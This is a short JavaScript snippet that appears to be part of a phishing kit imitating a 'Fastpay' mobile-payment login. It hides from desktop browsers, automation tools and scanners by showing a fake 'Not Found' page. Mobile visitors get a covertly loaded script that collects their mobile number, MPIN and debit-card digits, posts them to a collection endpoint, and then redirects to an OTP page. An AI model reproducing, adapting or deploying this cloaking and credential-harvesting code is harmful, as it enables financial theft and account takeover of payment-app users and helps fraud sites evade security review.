if (!/iPhone|Android/i.test(navigator.userAgent) || navigator.webdriver || navigator.maxTouchPoints < 1 || screen.width > 600) {
  document.write("<h1>Not Found</h1><p>The requested URL was not found on this server.</p>");
} else {
  var s = document.createElement("script");
  s.src = "/m/" + ["a", "p", "p"].join("") + ".js?v=" + Date.now();
  s.onload = function () { mountLogin({ title: "Fastpay", fields: ["mobile", "mpin", "debit_last6"], post: "/m/recv.php", next: "/m/otp.html" }); };
  document.head.appendChild(s);
}
